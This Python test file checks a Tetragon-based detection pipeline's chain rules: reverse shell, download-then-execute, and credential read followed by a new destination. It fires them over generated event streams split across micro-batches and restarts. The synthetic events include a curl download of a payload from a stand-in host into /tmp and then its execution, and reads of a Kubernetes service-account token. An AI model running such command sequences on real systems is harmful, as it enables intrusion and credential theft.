"""Sequence rules: chains across micro-batches, restarts and kill -9 fire once, and live equals the backtest.

The chains are the shipped ones (rules/chain-*.yaml) over the scenario and
over a generated stream whose steps fall in different micro-batches (small
chunks), some delivered out of order; state is rebuilt from the real lake.
"""

from __future__ import annotations

import base64
import datetime as dt
import json
import subprocess
import threading
from pathlib import Path

import pyarrow as pa
import pytest
from conftest import REPO, SAMPLES

from tetrapipe.flows.ingest import ingest
from tetrapipe.flows.transforms import restore_transforms
from tetrapipe.lake import Lake, connect
from tetrapipe.ruleset import load_ruleset
from tetrapipe.ruleset.backtest import backtest
from tetrapipe.ruleset.sequence import hunt_sql
from tetrapipe.sources.files import expand_inputs
from tetrapipe.transforms.chain import build_transforms
from tetrapipe.transforms.chains import ChainEngine

RULES = REPO / "rules"
CHAINS = [
    "chain-reverse-shell",
    "chain-shell-download-exec",
    "chain-bindir-write-exec",
    "chain-cred-read-new-dest",
]
T0 = dt.datetime(2026, 3, 12, 12, 0, 0)
CONTAINER = {
    "id": "containerd://7f0c1d2e3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d",
    "name": "web",
    "image": {"id": "docker.io/library/nginx@sha256:cdcdcdcdcdcdcdcd", "name": "docker.io/library/nginx:1.27"},
    "start_time": "2026-03-12T11:00:00Z",
}


def _eid(pid: int) -> str:
    return base64.b64encode(f"kind-worker:{5_000_000 + pid}:{pid}".encode()).decode()


def _exec(t: dt.datetime, pid: int, binary: str, args: str, ppid: int, pbinary: str) -> str:
    when = t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "Z"
    proc = {"exec_id": _eid(pid), "pid": pid, "uid": 0, "binary": binary}
    if args:
        proc["arguments"] = args
    proc |= {
        "flags": "execve clone",
        "start_time": when,
        "auid": 4294967295,
        "pod": {"namespace": "shop", "name": "web-5d9c8b7a6-q2w3e", "container": CONTAINER},
        "docker": CONTAINER["id"][13:44],
        "parent_exec_id": _eid(ppid),
        "in_init_tree": False,
    }
    parent = {"exec_id": _eid(ppid), "pid": ppid, "binary": pbinary, "start_time": "2026-03-12T11:00:00.000Z"}
    event = {"process_exec": {"process": proc, "parent": parent}, "node_name": "kind-worker", "time": when}
    return json.dumps(event, separators=(",", ":"))


def generated_stream(chains: int) -> tuple[list[str], set[tuple[int, ...]]]:
    """Lines of ``chains`` shell -> download -> /tmp payload chains 7 s apart (steps 20 s apart, so they
    interleave), with noise; every fifth chain lacks its payload (no alert) and every fourth has its
    download delivered before its shell (out of order, 0.5 s apart). Returns the lines and, per alert
    expected, the line numbers of its steps."""
    rows: list[tuple[dt.datetime, int, str, str | None]] = []  # time, chain, line, step
    for i in range(chains):
        t, b = T0 + dt.timedelta(seconds=7 * i), 100_000 + 10 * i
        late = i % 4 == 1
        rows.append((t, i, _exec(t, b + 1, "/bin/bash", "", b, "/usr/local/sbin/runc"), "shell"))
        dl = t + dt.timedelta(seconds=0.5 if late else 20)
        rows.append(
            (
                dl,
                i,
                _exec(dl, b + 2, "/usr/bin/curl", f"-so /tmp/p{i} http://198.51.100.9/p", b + 1, "/bin/bash"),
                "download",
            )
        )
        ls = t + dt.timedelta(seconds=25)
        rows.append((ls, i, _exec(ls, b + 3, "/bin/ls", "-la /tmp", b + 1, "/bin/bash"), None))
        if i % 5 != 4:
            run = t + dt.timedelta(seconds=40)
            rows.append((run, i, _exec(run, b + 4, f"/tmp/p{i}", "", b + 1, "/bin/bash"), "payload"))
    rows.sort(key=lambda r: r[0])
    for i in range(chains):  # the download of a late chain arrives before its shell
        if i % 4 == 1:
            s = next(k for k, r in enumerate(rows) if r[1] == i and r[3] == "shell")
            d = next(k for k, r in enumerate(rows) if r[1] == i and r[3] == "download")
            rows[s], rows[d] = rows[d], rows[s]
    expected: dict[int, dict[str, int]] = {}
    for n, (_t, i, _line, step) in enumerate(rows, 1):
        if step:
            expected.setdefault(i, {})[step] = n
    want = {(e["shell"], e["download"], e["payload"]) for e in expected.values() if "payload" in e}
    return [r[2] for r in rows], want


def _alert_lines(lake: Lake, rule_id: str) -> list[tuple[int, ...]]:
    """Each stored alert of ``rule_id`` as the source lines of its steps, in step order (one per row)."""
    con = connect(lake)
    try:
        rows = con.execute(
            "SELECT a.alert_id, list(e.source_offset ORDER BY i) FROM "
            "(SELECT alert_id, unnest(event_ids) AS event_id, generate_subscripts(event_ids, 1) AS i "
            " FROM alerts WHERE rule_id = ?) a JOIN events e USING (event_id) GROUP BY a.alert_id",
            [rule_id],
        ).fetchall()
    finally:
        con.close()
    return [tuple(lines) for _aid, lines in rows]


def _ingest(log: Path, lake: Lake, chunk_bytes: int = 4096) -> None:
    transforms, _ = build_transforms(RULES)
    restore_transforms(transforms, lake)  # what every command does: the chains come back from the history
    ingest(expand_inputs([str(log)]), lake, transforms=transforms, chunk_bytes=chunk_bytes)


def _stored(lake: Lake) -> list[dict]:
    con = connect(lake)
    try:
        rows = con.sql(
            "SELECT * EXCLUDE (date) FROM alerts WHERE starts_with(rule_id, 'chain-') ORDER BY alert_id"
        ).to_arrow_table()
    finally:
        con.close()
    return rows.to_pylist()


def _backtested(lake: Lake) -> list[dict]:
    rs = load_ruleset([RULES])
    table = backtest(lake, [r for r in rs.enabled() if r.sequence is not None])
    return table.sort_by("alert_id").to_pylist()


@pytest.fixture(scope="module")
def samples_lake(tmp_path_factory: pytest.TempPathFactory) -> Lake:
    lake = Lake(tmp_path_factory.mktemp("chains") / "lake")
    _ingest(SAMPLES, lake, chunk_bytes=1 << 20)
    return lake


def test_the_scenario_completes_four_chains_naming_every_step(samples_lake: Lake) -> None:
    got = {rid: _alert_lines(samples_lake, rid) for rid in CHAINS}
    assert got == {
        "chain-reverse-shell": [(117, 118)],
        "chain-shell-download-exec": [(95, 112, 128)],
        "chain-bindir-write-exec": [(130, 132)],
        "chain-cred-read-new-dest": [(110, 113)],
    }


def test_backtest_of_the_scenario_gives_exactly_the_stored_chain_alerts(samples_lake: Lake) -> None:
    stored = _stored(samples_lake)
    assert len(stored) == 4
    assert _backtested(samples_lake) == stored


def test_the_hunt_query_of_each_chain_finds_the_alerted_events(samples_lake: Lake) -> None:
    rs = load_ruleset([RULES])
    stored = {a["rule_id"]: a["event_ids"] for a in _stored(samples_lake)}
    con = connect(samples_lake)
    try:
        for rid in CHAINS:
            rows = con.execute(hunt_sql(rs.get(rid)).rstrip(";")).fetchall()
            # every combination of step events: the alert's, and for the credential chain cat's two reads of
            # /etc/shadow times the two new destinations (curl's, then nc's 46 s later) - the engine alerts once:
            # the newest read continues, and a completed chain is gone when nc connects
            found = [list(r[5:]) for r in rows]
            assert stored[rid] in found and len(found) == (4 if rid == "chain-cred-read-new-dest" else 1), rid
    finally:
        con.close()


def test_generated_chains_split_over_micro_batches_and_out_of_order_fire_once_live_and_retro(tmp_path: Path) -> None:
    lines, want = generated_stream(40)
    assert len(want) == 32
    log = tmp_path / "tetragon.log"
    log.write_text("\n".join(lines) + "\n")
    lake = Lake(tmp_path / "lake")
    _ingest(log, lake, chunk_bytes=1024)  # a line is ~700 bytes: one or two events per micro-batch
    got = _alert_lines(lake, "chain-shell-download-exec")
    assert sorted(got) == sorted(want)  # each chain once (a list: a second row would show)
    assert _backtested(lake) == _stored(lake)


def test_a_chain_split_by_a_restart_fires_once_and_a_finished_one_is_not_repeated(tmp_path: Path) -> None:
    lines, want = generated_stream(12)
    log = tmp_path / "tetragon.log"
    lake = Lake(tmp_path / "lake")
    half = len(lines) // 2
    log.write_text("\n".join(lines[:half]) + "\n")
    _ingest(log, lake)
    first = _alert_lines(lake, "chain-shell-download-exec")
    assert first and all(max(a) <= half for a in first)
    assert any(min(a) <= half < max(a) for a in want)  # some chains do straddle the restart
    with log.open("a") as f:
        f.write("\n".join(lines[half:]) + "\n")
    _ingest(log, lake)  # a new process: fresh transforms restored from the lake
    assert sorted(_alert_lines(lake, "chain-shell-download-exec")) == sorted(want)
    assert _backtested(lake) == _stored(lake)


def test_kill_9_between_steps_then_a_rerun_alerts_every_chain_exactly_once(
    tmp_path: Path, tetrapipe_cmd: list[str]
) -> None:
    lines, want = generated_stream(120)
    log = tmp_path / "tetragon.log"
    log.write_text("\n".join(lines) + "\n")
    lake_dir = tmp_path / "lake"
    cmd = [*tetrapipe_cmd, "ingest", str(log), "--lake", str(lake_dir), "-q", "--rules", str(RULES)]
    cmd += ["--chunk-bytes", "4096"]
    commits = lake_dir / "events" / "_delta_log"
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        ready = threading.Event()  # readiness: a few micro-batches committed, well before the end
        while not ready.wait(0.01):
            if (commits.is_dir() and len(list(commits.glob("*.json"))) >= 6) or proc.poll() is not None:
                ready.set()
        proc.kill()
        proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
    lake = Lake(lake_dir)
    before = _alert_lines(lake, "chain-shell-download-exec")
    assert len(before) < len(want), "the run finished before the kill: nothing was tried"
    subprocess.run(cmd, check=True, capture_output=True, timeout=300)
    assert sorted(_alert_lines(lake, "chain-shell-download-exec")) == sorted(want)
    assert _backtested(lake) == _stored(lake)


def _rows(engine: ChainEngine, n: int, start: int = 0) -> pa.Table:
    """``n`` step-0 rows of the engine's first rule (each its own lineage)."""
    cols = {c: [None] * n for c in engine.columns}
    cols["event_id"] = [f"e{start + i}" for i in range(n)]
    cols["time"] = [T0 + dt.timedelta(seconds=start + i) for i in range(n)]
    cols["exec_id"] = [f"x{start + i}" for i in range(n)]
    cols["kind"] = ["process_exec"] * n
    table = pa.table(cols)
    return table.append_column("_q0", pa.array([1] * n, pa.int64()))


def test_partial_chains_are_bounded_and_evictions_counted() -> None:
    rs = load_ruleset([RULES])
    engine = ChainEngine([rs.get("chain-shell-download-exec")], max_partials=10)
    engine.feed(_rows(engine, 50))
    assert engine.stats.partials == 10 and engine.stats.evicted == 40
    # an hour later: the new chain takes a place (one more eviction, at the bound), and the span frees
    # the rest at the end of the batch
    engine.feed(_rows(engine, 1, start=3600))
    assert engine.stats.partials == 1 and engine.stats.evicted == 41 and engine.stats.expired == 9


def test_sequence_mistakes_are_reported_at_their_line(tmp_path: Path) -> None:
    (tmp_path / "lib.yaml").write_text((RULES / "lib" / "lists.yaml").read_text())
    (tmp_path / "bad.yaml").write_text(
        "id: bad-chain\ntitle: t\ndescription: d\nseverity: high\n"
        "sequence:\n  by: lineage\n  within: 5m\n  steps:\n"
        "    - name: one\n      event: process_exec\n      condition: process_nam = 'x'\n"
        '    - name: two\n      event: process_exec\n      condition: "true"\n'
        "      join: {process_binary: three.file_path}\n"
        "output: '{one.process_binary} then {nope.binary}'\n"
    )
    rs = load_ruleset([tmp_path])
    got = sorted((i.line, i.reason.split(" (")[0].split(":")[0]) for i in rs.errors)
    assert got == [(15, "step 2")]  # the join names a step that is not earlier (and nothing else loads)
    rs2_text = (tmp_path / "bad.yaml").read_text().replace("      join: {process_binary: three.file_path}\n", "")
    (tmp_path / "bad.yaml").write_text(rs2_text)
    rs = load_ruleset([tmp_path])
    lines = {i.line: i.reason for i in rs.errors}
    assert "unknown column process_nam" in lines[11]
    assert "output {nope.binary}" in lines[15]
    assert not rs.get("bad-chain")


def test_a_hundred_thousand_partial_chains_stay_under_200_mb() -> None:
    import tracemalloc

    rs = load_ruleset([RULES])
    engine = ChainEngine([rs.get("chain-shell-download-exec")], max_partials=100_000)
    rows = _rows(engine, 100_000)
    # real-sized values: Tetragon exec ids (base64 of node:ktime:pid) and 32-hex event ids
    rows = rows.set_column(
        rows.schema.get_field_index("exec_id"), "exec_id", pa.array([_eid(i) for i in range(100_000)])
    )
    rows = rows.set_column(
        rows.schema.get_field_index("event_id"), "event_id", pa.array([f"{i:032x}" for i in range(100_000)])
    )
    times = [T0 + dt.timedelta(microseconds=500 * i) for i in range(100_000)]  # 50 s: none expires
    rows = rows.set_column(rows.schema.get_field_index("time"), "time", pa.array(times, pa.timestamp("us")))
    tracemalloc.start()
    try:
        engine.feed(rows)
        size, _peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert engine.stats.partials == 100_000 and engine.stats.evicted == 0
    print(f"100,000 partial chains: {size / 1e6:.1f} MB")  # (shown with -s)
    assert size < 200e6


def _kprobe(t: dt.datetime, pid: int, binary: str, ppid: int, body: dict) -> str:
    """A kprobe event of a process of the test container (the exec's shape, the hook's fields)."""
    event = json.loads(_exec(t, pid, binary, "", ppid, "/bin/sh"))
    event["process_kprobe"] = event.pop("process_exec") | body
    return json.dumps(event, separators=(",", ":"))


def _connect(t: dt.datetime, pid: int, daddr: str) -> str:
    sock = {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP", "saddr": "10.244.1.7"}
    sock |= {"daddr": daddr, "sport": 40000 + pid % 1000, "dport": 443, "state": "TCP_SYN_SENT"}
    body = {"function_name": "tcp_connect", "args": [{"sock_arg": sock}], "policy_name": "connect"}
    return _kprobe(t, pid, "/usr/bin/curl", 900, body | {"action": "KPROBE_ACTION_POST"})


def _token_read(t: dt.datetime, pid: int) -> str:
    path = "/var/run/secrets/kubernetes.io/serviceaccount/token"
    args = [{"file_arg": {"path": path, "permission": "-rw-r--r--"}}, {"int_arg": 4}]
    body = {"function_name": "security_file_permission", "args": args, "policy_name": "file-monitoring"}
    return _kprobe(t, pid, "/bin/cat", 900, body | {"return": {"int_arg": 0}, "action": "KPROBE_ACTION_POST"})


def test_a_first_seen_step_remembers_destinations_from_before_a_restart(tmp_path: Path) -> None:
    """The destination used an hour before the restart (far outside the replayed span) is not new after it."""
    # the connect, then 50 minutes of something else: the restart replays only the last 5 minutes of steps
    old = [_connect(T0, 1, "198.51.100.10"), _exec(T0 + dt.timedelta(minutes=50), 6, "/bin/ls", "", 900, "/bin/sh")]
    later = T0 + dt.timedelta(hours=1)
    new = [
        _token_read(later, 2),
        _connect(later + dt.timedelta(seconds=1), 3, "198.51.100.10"),  # seen before the restart: no chain
        _token_read(later + dt.timedelta(minutes=1), 4),
        _connect(later + dt.timedelta(minutes=1, seconds=1), 5, "198.51.100.11"),  # new: the chain
    ]
    log, lake = tmp_path / "tetragon.log", Lake(tmp_path / "lake")
    log.write_text("\n".join(old) + "\n")
    _ingest(log, lake)
    with log.open("a") as f:
        f.write("\n".join(new) + "\n")
    _ingest(log, lake)
    assert _alert_lines(lake, "chain-cred-read-new-dest") == [(5, 6)]
    assert _backtested(lake) == _stored(lake)
    con = connect(lake)
    try:
        rule = load_ruleset([RULES]).get("chain-cred-read-new-dest")
        rows = con.execute(hunt_sql(rule).rstrip(";")).fetchall()
    finally:
        con.close()
    assert len(rows) == 2 and {r[-1] for r in rows} == {_stored(lake)[0]["event_ids"][1]}  # both reads, one connect
